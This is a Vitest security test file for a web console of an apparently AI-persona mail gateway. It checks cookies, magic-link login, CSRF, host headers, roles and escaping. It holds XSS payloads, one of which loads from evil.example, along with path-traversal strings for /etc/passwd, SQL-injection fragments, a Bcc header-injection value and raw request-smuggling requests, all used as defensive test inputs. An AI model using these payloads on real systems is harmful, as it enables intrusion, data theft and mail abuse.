import { readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCREENS } from '../../engine/console/screens/screens.ts';
import { type Answered, type Browser, browserAt, openConsole, openMailed, readDatabase } from './console-rig.ts';
import { ADA, CARL, MEMBER, mailTo, OWNER } from './governance-rig.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe srcdoc='<script>alert(1)</script>'>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<a href="javascript:alert(1)" hx-get="http://evil.example/x" hx-trigger="load">x</a>',
  '{{alert(1)}}<%= alert(1) %>',
];
const BOB = 'bob@example.com';
const RULE = 'Never write about the weather.';
/** A mail that has a document of its own on the page that shows it. */
const FRAMED = [
  `From: ${MEMBER}`,
  `To: ${ADA}`,
  'Message-ID: <framed@member.example>',
  'Subject: In a frame',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Hello <b>there</b></p>',
  '',
].join('\r\n');

let office: Awaited<ReturnType<typeof openConsole>>;
let owner: Browser;
let bob: Browser;
let viewer: Browser;
let operator: Browser;
/** The page of the question that waits, and the hash that its form has. */
let question = '';
let hash = '';
/** Of everything that is Ada's and that an address can name, one; an address of a screen by the names that it gives them. */
let real: Readonly<Record<string, Readonly<Record<string, string>>>> = {};

beforeAll(async () => {
  office = await openConsole({
    'personas/ada/persona.json': {
      name: 'Ada <b onclick=alert(1)>',
      address: 'ada@agents.localhost',
      access: { allow: ['*@member.example'] },
      budget: { usd_per_day: 1 },
    },
    'personas/ben/persona.json': { name: 'Ben', address: 'ben@agents.localhost', owners: [BOB] },
    'personas/ada/tasks/x.md': '---\nname: "<script>alert(3)</script>"\nschedule: "0 8 * * 1"\n---\nTell <script>.\n',
  });
  for (const subject of HOSTILE) await office.ask(mailTo(CARL, subject, { body: subject }), MEMBER, subject);
  await office.ask(`/write_file ${JSON.stringify({ path: 'a<img src=x onerror=alert(1)>.txt', content: 'x' })}`);
  await office.ask(`/remember_rule ${JSON.stringify({ quote: RULE })}`, OWNER, RULE);
  await office.post({ from: MEMBER, raw: FRAMED });
  for (const subject of HOSTILE)
    await office.post({ from: `${subject.length}@evil.example`, subject, text: subject }).catch(() => {});
  owner = await office.loggedIn();
  bob = await office.loggedIn('--as', BOB);
  viewer = await office.loggedIn('--role', 'viewer');
  operator = await office.loggedIn('--role', 'operator');
  const { json } = await office.cli('approvals', 'list');
  question = `/approvals/ada/${json.approvals.at(-1).id}`;
  hash = json.approvals.at(-1).arguments_hash;
  real = await idsOfAda(json.approvals.at(-1).id);
}, 120_000);
afterAll(() => office.close());

const form = () => ({ form: owner.formToken(), say: 'approve', hash });
/** Nothing was decided, and nothing is about to be. */
async function nothingCameOfIt(): Promise<void> {
  const { text } = await owner.get('/approvals');
  expect(text).not.toContain('Take it back');
  expect(new Set(await office.states())).toEqual(new Set(['pending']));
}
const cookieOf = (browser: Browser) => ({ cookie: browser.cookie() });
const ADDRESSES = () => ['/', '/approvals', question, '/events', '/nowhere', '/session/end'];

/** By the screen, what stands at the places of its addresses that have a name. */
async function idsOfAda(asked: string): Promise<typeof real> {
  const first = async (list: string, ...more: string[]) => (await office.cli(list, 'list', ...more)).json[list][0].id;
  const mails: readonly { id: string; message_id: string }[] = (await office.cli('mail', 'list')).json.mails;
  const tried = await office.cli('persona', 'try', 'ada', '--as', 'owner', '--subject', 'Tried', '--text', 'Hello');
  const framed = mails.find((one) => one.message_id === '<framed@member.example>');
  return {
    approvals: { persona: 'ada', id: asked },
    mail: { id: String(framed?.id) },
    'mail/test': { persona: 'ada', id: tried.json.test.run.id },
    people: { address: MEMBER, fact: 'x' },
    personas: { persona: 'ada', rule: await first('rules') },
    runs: { persona: 'ada', id: await first('runs', '--persona', 'ada') },
    tasks: { persona: 'ada', task: 'x' },
    // Nothing of the gateway is there for owners of a persona, whatever is named.
    system: { persona: 'ada', id: asked },
  };
}

/** What follows a page that is about nothing without it. */
const about = (address: string): string =>
  address === '/settings/change' ? '?file=security&key=approvals.ttl_hours' : '';

/** What is not simply missing for whom it is not: where nothing is about to be decided, and where the money is the gateway's. */
const SAYS_OTHERWISE: Readonly<Record<string, number>> = {
  '/approvals/:persona/:id/take-back': 409,
  '/costs/budget': 403,
  // Nobody adds one where the console has no name under https.
  '/passkeys/add': 409,
};

/** An address of a screen, about what is Ada's. */
function named(address: string): string {
  const [, screen = '', inside] = address.split('/');
  const ids = real[`${screen}/${inside}`] ?? real[screen] ?? {};
  return address.replace(/:([a-z]+)/g, (_, name: string) => {
    const id = ids[name];
    if (id === undefined) throw new Error(`nothing is known to stand for :${name} in ${address}`);
    return encodeURIComponent(id);
  });
}

describe('nobody is let in', () => {
  it('without a cookie, or with one that is not theirs', async () => {
    const { port } = new URL(office.url());
    const other = browserAt(office.url());
    const real = owner.cookie().split('=')[1] ?? '';
    const cookies = [
      undefined,
      `epistle_${port}=`,
      `epistle_${port}=${'0'.repeat(64)}`,
      `epistle_${port}=${real.slice(0, -1)}`,
      `epistle_${port}=${real.toUpperCase()}x`,
      `epistle_${port}=%27%20or%201=1`,
      `__Host-epistle=${real}`,
      `epistle_1=${real}`,
      `epistle_${port}=${'0'.repeat(64)}; epistle_${port}=${real}`,
    ];
    for (const cookie of cookies) {
      for (const path of ['/', question, '/events']) {
        const { status, text } = await other.send(path, { headers: { cookie } });
        expect([cookie, path, status]).toEqual([cookie, path, 401]);
        expect(text).not.toContain('carl@');
      }
    }
    for (const path of [`${question}/decide`, `${question}/take-back`, '/session/end'])
      expect((await other.send(path, { method: 'POST', form: form() })).status).toBe(401);
    await nothingCameOfIt();
  });

  it('by a code that was used, guessed, cut, typed into an address, or sent along', async () => {
    const link = await office.link();
    const code = new URL(link).hash.slice(1);
    expect((await browserAt(office.url()).open(link)).status).toBe(303);
    const other = browserAt(office.url());
    const tries = [code, code.slice(1), `${code}0`, '', ' ', 'null', '%00', '0'.repeat(26)];
    for (const wrong of tries) {
      const { status, headers } = await other.send('/session', { method: 'POST', form: { code: wrong } });
      expect([wrong, status, headers['set-cookie']]).toEqual([wrong, 401, undefined]);
    }
    const fresh = new URL(await office.link()).hash.slice(1);
    for (const path of [`/?code=${fresh}`, `/session?code=${fresh}`, `/${fresh}`])
      expect((await other.get(path)).headers['set-cookie']).toBeUndefined();
    // A scanner that follows the link has used nothing up.
    expect((await other.get('/session')).status).toBe(200);
    expect((await other.send('/session', { method: 'POST', form: { code: fresh } })).status).toBe(303);
  });
});

describe('a page of somebody else', () => {
  it('is not answered under a name that it has lead here', async () => {
    const { port } = new URL(office.url());
    const hosts = [
      'evil.example',
      `evil.example:${port}`,
      `127.0.0.1.evil.example:${port}`,
      `localhost.evil.example:${port}`,
      '127.0.0.1',
      '127.0.0.1:1',
      `192.0.2.7:${port}`,
      `0.0.0.0:${port}`,
      `127.0.0.1:${port}@evil.example`,
      `evil.example#127.0.0.1:${port}`,
      `[::ffff:c000:207]:${port}`,
      `2130706433.evil:${port}`,
    ];
    for (const host of hosts) {
      const { status } = await owner.send('/', { headers: { host, ...cookieOf(owner) } });
      expect([host, status === 421 || status === 400]).toEqual([host, true]);
    }
  });

  it('has nothing done by a form, fetch, picture, frame or socket', async () => {
    const act = `${question}/decide`;
    const origin = { origin: 'http://evil.example' };
    const [form1, json] = ['application/x-www-form-urlencoded', 'application/json'];
    const posts = [
      { ...origin, 'sec-fetch-site': 'cross-site' },
      { ...origin, 'sec-fetch-site': undefined },
      { origin: 'null', 'sec-fetch-site': 'cross-site' },
      { origin: 'null', 'sec-fetch-site': undefined },
      { origin: undefined, 'sec-fetch-site': 'cross-site' },
      { origin: undefined, 'sec-fetch-site': undefined },
      { origin: undefined, 'sec-fetch-site': 'none' },
      { origin: office.url().replace('http:', 'https:'), 'sec-fetch-site': 'same-site' },
      { origin: 'http://127.0.0.1:3000', 'sec-fetch-site': 'same-site' },
      { origin: 'http://localhost', 'sec-fetch-site': 'same-site' },
      { origin: `${office.url()}.evil.example`, 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { 'content-type': 'text/plain' },
      { 'content-type': json },
      { 'content-type': 'multipart/form-data; boundary=x' },
      { 'content-type': undefined },
      { 'content-type': `${form1}x` },
    ];
    for (const headers of posts) {
      const { status } = await owner.send(act, { method: 'POST', form: form(), headers });
      expect([headers, status === 403 || status === 415]).toEqual([headers, true]);
    }
    for (const method of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE']) {
      const { status } = await owner.send(`${act}?${new URLSearchParams(form())}`, { method });
      expect([method, status >= 400]).toEqual([method, true]);
    }
    const gets = [
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'script' },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'iframe' },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'embed' },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', ...origin },
      { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-key': 'eA==', 'sec-websocket-version': '13' },
      { ...origin },
    ];
    for (const headers of gets) {
      for (const path of ['/', '/events']) {
        const { status, text } = await owner.send(path, { headers });
        expect([headers, status === 403 || status === 400]).toEqual([headers, true]);
        expect(text).not.toContain('carl@');
      }
    }
    await nothingCameOfIt();
  });

  it('has nothing done by a form without the token of the session, or with that of another', async () => {
    await bob.get('/');
    const tokens = [undefined, '', 'x', '0'.repeat(32), bob.formToken(), `${owner.formToken()}0`, 'ä'.repeat(32)];
    for (const path of [`${question}/decide`, `${question}/take-back`, '/session/end']) {
      for (const token of tokens) {
        const { form: _own, ...rest } = form();
        const sent = token === undefined ? rest : { ...rest, form: token };
        expect([path, token, (await owner.send(path, { method: 'POST', form: sent })).status]).toEqual([
          path,
          token,
          403,
        ]);
      }
    }
    await nothingCameOfIt();
  });

  it('can frame nothing, and is given nothing by any header', async () => {
    for (const path of ADDRESSES().filter((one) => one !== '/events')) {
      const { headers } = await owner.send(path, { headers: { origin: undefined } });
      expect(headers['content-security-policy']).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
      expect(headers['x-frame-options']).toBe('DENY');
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['access-control-allow-origin']).toBeUndefined();
      expect(headers['cache-control']).toBe('no-store');
    }
  });
});

describe('an address', () => {
  it('leads to no file, and to no page that another way would be kept from', async () => {
    const paths = [
      '/static/../people.ts',
      '/static/..%2fpeople.ts',
      '/static/%2e%2e/people.ts',
      '/static/....//people.ts',
      '/static/..\\people.ts',
      '/static//etc/passwd',
      '/static/style.css%00.ts',
      '/static/',
      '/static/constructor',
      '//evil.example/',
      '/approvals/../../configs/security.json',
      '/approvals/..%2f..%2fdata/x',
      '/approvals/__proto__/x',
      `/approvals/ada%2f..%2fben/${question.split('/').at(-1)}`,
      `/approvals/ben/${question.split('/').at(-1)}`,
      '/approvals/ada/%',
      '/approvals/ada/%27%20or%201=1',
      `/APPROVALS`,
      '/approvals/',
      '/%61pprovals/x/y',
    ];
    for (const path of paths) {
      const { status, text, headers } = await owner.send(path);
      expect([path, status >= 400 && status < 500]).toEqual([path, true]);
      expect(text).not.toMatch(/import |root:|"owners"/);
      expect(String(headers.location ?? '')).not.toContain('evil');
    }
    for (const path of ['/approvals?after=%27%3b--', '/approvals?after=%00', '/?x=<script>alert(1)</script>']) {
      const { status, text } = await owner.send(path);
      expect([path, status]).toEqual([path, 200]);
      expect(text).not.toContain('<script>alert');
    }
    expect((await owner.send('/approvals?persona=ben%00')).status).toBe(404);
  });

  it('in a request that no browser sends ends that request and nothing else', async () => {
    const { hostname, port } = new URL(office.url());
    const raw = (text: string) =>
      new Promise<string>((resolve) => {
        const socket = connect(Number(port), hostname, () => socket.write(text));
        let answered = '';
        socket.on('data', (part) => {
          answered += part;
        });
        socket.on('close', () => resolve(answered));
        socket.on('error', () => {});
        socket.setTimeout(3000, () => socket.destroy());
      });
    const host = `${hostname}:${port}`;
    // 401: as whoever is not let in, whatever else it says; the form is not read to its end.
    const texts = [
      [401, `GET http://evil.example/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`],
      [400, `GET / HTTP/1.1\r\nConnection: close\r\n\r\n`],
      [421, `GET / HTTP/1.1\r\nHost: ${host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n`],
      [
        401,
        `POST /session HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 99999999\r\nConnection: close\r\n\r\ncode=x`,
      ],
      [
        400,
        `POST /session HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      ],
      [431, `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: ${host}\r\n\r\n`],
    ] as const;
    const answers: string[] = [];
    for (const [, text] of texts) answers.push((await raw(text)).slice(0, 12));
    expect(answers).toEqual(texts.map(([status]) => `HTTP/1.1 ${status}`));
    expect((await owner.get('/')).status).toBe(200);
  });
});

describe('what others wrote', () => {
  it('is text on every page that shows it', async () => {
    const { json } = await office.cli('approvals', 'list');
    const pages = ['/', '/approvals', ...json.approvals.map(({ id }: { id: string }) => `/approvals/ada/${id}`)];
    for (const path of pages) {
      const { text, status } = await owner.get(path);
      expect([path, status]).toEqual([path, 200]);
      const tags = [...text.matchAll(/<(script|img|iframe|b|svg)\b[^>]*>/g)].map(([tag]) => tag);
      const ours =
        /^<(script src="\/static\/(console|htmx)\.js\?[0-9a-f]+" defer|svg class="bar" .* aria-hidden="true")>$/;
      expect([path, tags.filter((tag) => !ours.test(tag))]).toEqual([path, []]);
      expect(text).not.toMatch(/<[^>]*\son\w+=/);
      expect(text).not.toMatch(/<[^>]*\shx-(get|post|on|trigger)/);
      expect(text).not.toMatch(/(href|src|action)="(?!\/|#)/);
    }
  });
});

describe('somebody who may see something', () => {
  it('sees nothing of another persona on any address, and does nothing there', async () => {
    const all = SCREENS.flatMap(({ pages, isFor }) =>
      pages.map(({ address }) => ({ address, isForSome: Boolean(isFor) })),
    );
    for (const { address, isForSome } of all) {
      // Whose it is finds it there: what bob is kept from exists.
      expect([address, (await owner.get(named(address) + about(address))).status]).toEqual([address, 200]);
      const { status, text } = await bob.get(named(address) + about(address));
      expect([address, status]).toEqual([address, isForSome || address.includes(':') ? 404 : 200]);
      const told = [CARL, MEMBER, 'evil.example', 'alert(3)', 'Ada'].filter((secret) => text.includes(secret));
      expect([address, told]).toEqual([address, []]);
    }
    for (const { address } of SCREENS.flatMap(({ framed = [] }) => framed)) {
      expect([address, (await owner.get(named(address))).status]).toEqual([address, 200]);
      expect([address, (await bob.get(named(address))).status]).toEqual([address, 404]);
    }
    // What is about to be decided is there for its owner to take back, and for nobody else.
    expect((await owner.press(`${question}/decide`, { say: 'deny', hash })).status).toBe(303);
    for (const { address } of SCREENS.flatMap(({ acts = [] }) => acts)) {
      const { status } = await bob.press(named(address), { say: 'approve', hash, persona: 'ada', usd: '1' });
      expect([address, status]).toEqual([address, SAYS_OTHERWISE[address] ?? 404]);
    }
    expect((await owner.press(`${question}/take-back`)).status).toBe(303);
    for (const query of ['?persona=ada', '?persona=ada@agents.localhost', '?persona=../ada']) {
      const { text, status } = await bob.get(`/approvals${query}`);
      expect([query, status]).toEqual([query, 404]);
      expect(text).not.toContain(CARL);
    }
    await nothingCameOfIt();
  });

  it('does no more than the role of the session lets them', async () => {
    for (const { address, needs } of SCREENS.flatMap(({ acts = [] }) => acts)) {
      const press = (by: Browser) => by.press(named(address), { say: 'approve', hash, role: 'owner' });
      expect([address, (await press(viewer)).status]).toEqual([address, 403]);
      if (needs === 'owner') expect([address, (await press(operator)).status]).toEqual([address, 403]);
    }
    await nothingCameOfIt();
  });

  it('sees nothing more once they own nothing, or were put out', async () => {
    const other = await office.loggedIn('--as', BOB);
    office.workspace.write('personas/ben/persona.json', {
      name: 'Ben',
      address: 'ben@agents.localhost',
      owners: [OWNER],
    });
    await expect
      .poll(async () => (await other.get('/')).text.includes('No persona is yours'), { timeout: 20_000 })
      .toBe(true);
    await office.cli('console', '--log-out', '--as', BOB);
    expect((await other.get('/')).status).toBe(401);
    expect((await bob.get('/')).status).toBe(401);
    expect((await owner.get('/')).status).toBe(200);
  });
});

describe('a log-in by mail', () => {
  let desk: Awaited<ReturnType<typeof openMailed>>;
  beforeAll(async () => {
    desk = await openMailed({
      'personas/ada/persona.json': {
        name: 'Ada',
        address: ADA,
        owners: [OWNER, BOB, ...OTHERS],
        access: { allow: ['*@member.example'] },
      },
    });
  }, 120_000);
  afterAll(() => desk.close());

  /** Each of them is sent three in an hour, so each try has an owner of its own. */
  const OTHERS = ['one', 'two', 'three', 'four', 'five'].map((name) => `${name}@example.com`);
  const [SCANNED = '', OTHER = '', NAMED = '', BOMBED = '', ENDED = ''] = OTHERS;
  let count = 0;
  /** Asks in this browser, and waits for the mail. */
  const mailed = async (browser: Browser, address: string): Promise<string> => {
    expect((await browser.ask(address)).status).toBe(303);
    count += 1;
    return desk.mailed(count);
  };
  const seen = ({ status, headers, text }: Answered) => {
    const { date: _date, 'set-cookie': cookie, ...rest } = headers;
    return { status, text, headers: rest, cookie: String(cookie).replace(/[0-9a-f]{64}/, '') };
  };
  const audit = async (): Promise<{ event: string; decision: string | null; detail: object }[]> =>
    (await desk.cli('audit', '--limit', '100')).json.audit;

  it('lets in the browser that asked, once, and never to what takes something away', async () => {
    const browser = browserAt(desk.url());
    const { text } = await browser.get('/session');
    expect(text).toContain('action="/session/ask"');
    const link = await mailed(browser, ` ${BOB.toUpperCase()} `);
    expect(new URL(link).origin).toBe(desk.url());
    expect(await browser.open(link)).toMatchObject({ status: 303, headers: { location: '/' } });
    expect((await browser.get('/')).text).toContain(BOB);
    expect((await browser.open(link)).status).toBe(401);
    await desk.ask('/write_file {"path":"old.txt","content":"kept"}');
    await desk.ask('/delete_file {"path":"old.txt"}');
    const { json } = await desk.cli('approvals', 'list');
    const waiting = json.approvals.find(({ risk }: { risk: string }) => risk === 'destructive');
    const path = `/approvals/ada/${waiting.id}`;
    await browser.get(path);
    const form = { say: 'approve', hash: waiting.arguments_hash };
    expect((await browser.press(`${path}/decide`, form)).status).toBe(403);
    const rows = await audit();
    expect(rows.filter(({ event }) => event === 'console_log_in_mailed')).toMatchObject([{ detail: { address: BOB } }]);
    expect(rows.filter(({ event }) => event === 'console_log_in')).toMatchObject([{ detail: { by: 'mail' } }]);
  });

  it('is used up by no program that opens the link, follows it, or presses the button of its page', async () => {
    const browser = browserAt(desk.url());
    const link = await mailed(browser, SCANNED);
    const code = new URL(link).hash.slice(1);
    const scanner = browserAt(desk.url());
    for (const path of [
      '/session/mail',
      `/session/mail?${code}`,
      `/session/mail?code=${code}`,
      `/session?code=${code}`,
    ]) {
      for (const method of ['GET', 'HEAD']) {
        const { headers } = await scanner.send(path, { method });
        expect([path, method, headers['set-cookie']]).toEqual([path, method, undefined]);
      }
    }
    expect((await scanner.open(link)).status).toBe(401);
    // As a link of `epistle console` it is worth nothing, not even in the browser that asked.
    expect((await browser.send('/session', { method: 'POST', form: { code } })).status).toBe(401);
    expect((await browser.open(link)).status).toBe(303);
  });

  it('lets nobody in who asked for it elsewhere, opens it elsewhere, or has made up what a browser has', async () => {
    // Of one peer so many wrong codes are looked at in a minute: these are of a gateway of their own.
    const fresh = await openMailed({ 'personas/ada/persona.json': { name: 'Ada', address: ADA, owners: [OTHER] } });
    try {
      const thief = browserAt(fresh.url());
      expect((await thief.ask(OTHER)).status).toBe(303);
      const link = await fresh.mailed(1);
      const code = new URL(link).hash.slice(1);
      // The owner opens what somebody else asked for, in a browser that has asked for nothing, or for another mail.
      const own = browserAt(fresh.url());
      expect((await own.open(link)).status).toBe(401);
      expect((await own.ask(OTHER)).status).toBe(303);
      const asked = await fresh.mailed(2);
      expect((await own.open(link)).status).toBe(401);
      const { port } = new URL(fresh.url());
      const right = thief.asked().split('=')[1] ?? '';
      for (const cookie of [
        '',
        `epistle_${port}_asked=`,
        `epistle_${port}_asked=${'0'.repeat(64)}`,
        `epistle_${port}_asked=${right.slice(1)}`,
        `epistle_${port}=${right}`,
        `__Host-epistle_asked=${right}`,
        `epistle_${port}_asked=${right}; epistle_${port}_asked=${'0'.repeat(64)}`,
      ]) {
        const { status } = await own.send('/session/mail', { method: 'POST', form: { code }, headers: { cookie } });
        expect([cookie, status]).toEqual([cookie, 401]);
      }
      // Each of them was looked at: what the same browser asked for still lets it in.
      expect((await own.open(asked)).status).toBe(303);
    } finally {
      await fresh.close();
    }
  });

  it('leads to our own address, whatever name or way a request says, and is asked for under no other', async () => {
    const { port } = new URL(desk.url());
    const other = browserAt(desk.url());
    const before = desk.links().length;
    for (const host of [
      'evil.example',
      `evil.example:${port}`,
      `127.0.0.1.evil.example:${port}`,
      `localhost:${port}`,
      `127.0.0.2:${port}`,
      `[::1]:${port}`,
    ]) {
      const headers = { host, origin: `http://${host}` };
      const { status, headers: told } = await other.send('/session/ask', {
        method: 'POST',
        form: { address: NAMED },
        headers,
      });
      expect([host, status === 421 || status === 404, told['set-cookie']]).toEqual([host, true, undefined]);
    }
    for (const headers of [
      { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site' },
      { origin: undefined, 'sec-fetch-site': undefined },
      { 'sec-fetch-site': 'same-site' },
    ])
      expect((await other.send('/session/ask', { method: 'POST', form: { address: NAMED }, headers })).status).toBe(
        403,
      );
    expect((await other.send(`/session/ask?address=${NAMED}`)).status).toBe(401);
    const local = await other.send('/session', { headers: { host: `localhost:${port}` } });
    expect(local.text).toContain(`href="${desk.url()}/session"`);
    expect(local.text).not.toContain('/session/ask');
    const headers = {
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'https',
      forwarded: 'host=evil.example',
      referer: 'http://evil.example/',
    };
    await other.send('/session/ask', { method: 'POST', form: { address: NAMED }, headers });
    count += 1;
    expect(new URL(await desk.mailed(count)).origin).toBe(desk.url());
    expect(desk.links()).toHaveLength(before + 1);
  });

  it('is answered alike for an owner, for nobody, for what is no address, and for too much of it', async () => {
    const asking = await openMailed();
    try {
      const texts = [
        OWNER,
        'nobody@example.com',
        MEMBER,
        'x',
        '',
        `${'a'.repeat(70_000)}`,
        "' or 1=1 --",
        `${OWNER}\r\nBcc: eve@evil.example`,
      ];
      const answers: object[] = [];
      for (const address of texts) answers.push(seen(await browserAt(asking.url()).ask(address)));
      for (const answer of answers) expect(answer).toEqual(answers[0]);
      await asking.mailed(1);
      // Whoever is not an owner leaves no row, and hears nothing.
      await expect
        .poll(() => readDatabase(asking.root, 'select address from console_log_ins'))
        .toEqual([{ address: OWNER }]);
      expect(asking.peer.mails.map(({ to }) => to.join())).toEqual([OWNER]);
    } finally {
      await asking.close();
    }
  });

  it('is mailed three times in an hour, whoever asks, and that more were asked for is on record', async () => {
    const browsers = Array.from({ length: 5 }, () => browserAt(desk.url()));
    for (const browser of browsers) await browser.ask(BOMBED);
    count += 3;
    await desk.mailed(count);
    await expect
      .poll(() => readDatabase(desk.root, 'select id from console_log_ins where mailed_at is null'))
      .toEqual([]);
    expect(desk.peer.mails.filter(({ to }) => to.join() === BOMBED)).toHaveLength(3);
    const refused = (await audit()).filter(({ decision }) => decision === 'too_many_mails');
    expect(refused).toMatchObject([{ event: 'console_log_in_refused', detail: { address: BOMBED } }]);
    // And one address of the network asks for so many in a minute.
    const asked = await Promise.all(Array.from({ length: 12 }, () => browserAt(desk.url()).ask('nobody@example.com')));
    expect(asked.map(({ status }) => status)).toContain(429);
  });

  it('is nowhere once it was sent: in no file, list, search, queue, log or backup, and an answer to it begins nothing', async () => {
    const fresh = await openMailed({ 'personas/ada/persona.json': { name: 'Ada', address: ADA, owners: [OWNER] } });
    try {
      const browser = browserAt(fresh.url());
      await browser.ask(OWNER);
      const link = await fresh.mailed(1);
      const code = new URL(link).hash.slice(1);
      const [mail] = fresh.peer.mails;
      const messageId = /^Message-ID:\s+(<[^>]*>)/im.exec(mail?.raw ?? '')?.[1] ?? '';
      const answer = { subject: 'Re: x', text: `Was that me?\n\n> ${link}\n> ${code}\n` };
      await fresh.post({ ...answer, messageId: '<a@example.com>', inReplyTo: messageId, references: [messageId] });
      await fresh.post({ ...answer, messageId: '<b@example.com>', references: ['<x@example.com>', messageId] });
      expect([await fresh.codeOf('<a@example.com>'), await fresh.codeOf('<b@example.com>')]).toEqual([
        'log_in_mail',
        'log_in_mail',
      ]);
      // Whoever makes up such a Message-ID keeps nothing from being answered.
      const made = messageId.replace(/\.[0-9a-f]{32}@/, `.${'0'.repeat(32)}@`);
      await fresh.post({ subject: 'Hello', text: 'Hello', messageId: '<c@example.com>', inReplyTo: made });
      expect(await fresh.codeOf('<c@example.com>')).not.toBe('log_in_mail');
      const looks = [
        'mail list',
        'outbox list',
        'threads list',
        'runs list',
        'audit',
        'logs',
        'deadletters list',
        'memory search console',
      ];
      for (const look of looks) {
        const told = JSON.stringify(await fresh.cli(...look.split(' ')));
        expect([look, told.includes(code), told.includes('logs' === look ? link : `${messageId}"`)]).toEqual([
          look,
          false,
          false,
        ]);
      }
      await fresh.cli('backup', 'create', '--to', join(fresh.root, 'copied'));
      await fresh.stop();
      const held = readdirSync(fresh.root, { withFileTypes: true, recursive: true }).filter((entry) => entry.isFile());
      expect(held.length).toBeGreaterThan(5);
      for (const entry of held) {
        const bytes = readFileSync(join(entry.parentPath, entry.name)).toString('latin1');
        expect([entry.name, bytes.includes(code), bytes.includes(code.replaceAll('-', ''))]).toEqual([
          entry.name,
          false,
          false,
        ]);
      }
    } finally {
      await fresh.close();
    }
  });

  it('is taken back by the command that puts people out, and is not offered where nobody has switched it on', async () => {
    expect((await browserAt(office.url()).ask(OWNER)).status).toBe(404);
    expect((await browserAt(office.url()).get('/session')).text).not.toContain('/session/ask');
    expect((await browserAt(office.url()).get('/session/mail')).status).toBe(404);
    const ended = await openMailed({ 'personas/ada/persona.json': { name: 'Ada', address: ADA, owners: [ENDED] } });
    try {
      const browser = browserAt(ended.url());
      await browser.ask(ENDED);
      const link = await ended.mailed(1);
      await ended.cli('console', '--log-out', '--as', ENDED);
      expect((await browser.open(link)).status).toBe(401);
    } finally {
      await ended.close();
    }
  });
});
